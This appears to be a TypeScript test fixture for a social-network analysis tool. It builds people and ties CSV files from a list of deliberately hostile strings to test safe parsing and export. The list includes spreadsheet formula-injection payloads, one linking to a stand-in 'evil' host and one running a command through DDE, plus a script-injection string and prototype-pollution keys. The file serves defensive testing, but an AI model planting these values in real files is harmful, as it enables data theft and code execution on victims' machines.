import type { Evidence, Network } from '@tertius/core';
import { bytesOf, read } from './compare.ts';

/** Names, ids and values that break careless writers. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil/?"&A1)',
  '+44 20 7946 0000',
  "'=1+1",
  "''quoted",
  '-2',
  '@SUM(1)',
  '＝1+1',
  "safe\n=cmd|'/c calc'!A1",
  'empty\n\nline',
  '__proto__',
  'constructor',
  '</name><script>alert(1)</script>',
  ']]>',
  '&amp;&#65;',
  'a,b;c\td"e',
  'الاسم 名前 \u{1f600}',
  'attribute:name',
];

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** People with those as ids, names and attributes, in a ring of ties of every kind. */
export function hostileNetwork(): { readonly network: Network; readonly evidence: Evidence } {
  const people = ['id,name,organisation,=note,team,__proto__'];
  const ties = ['source,target,strength,trust,knowledge,directed,timestamp,channel,=kind,topic'];
  const idOf = (text: string, k: number): string => (k % 2 === 0 ? text : `${k}${text}`);
  const safe = (text: string): string => `${text.startsWith("'") ? "'" : ''}${text}`;
  HOSTILE.forEach((text, k) => {
    const next = (k + 1) % HOSTILE.length;
    const other = HOSTILE[next] as string;
    people.push(
      [idOf(safe(text), k), safe(text), safe(other), safe(text), safe(other), safe(text)].map(quoted).join(),
    );
    const ends = [quoted(idOf(safe(text), k)), quoted(idOf(safe(other), next))];
    if (k % 3 === 0) ties.push([...ends, '0.5', '', '', 'no', '', '', quoted(safe(text)), ''].join());
    if (k % 3 === 1) ties.push([...ends, '', '0.25', '0.1', 'yes', '', '', '', ''].join());
    ties.push([...ends, '', '', '', '', `2026-0${1 + (k % 9)}-03`, 'mail', '', quoted(safe(other))].join());
  });
  return read([bytesOf('people.csv', people.join('\n')), bytesOf('ties.csv', ties.join('\n'))]);
}
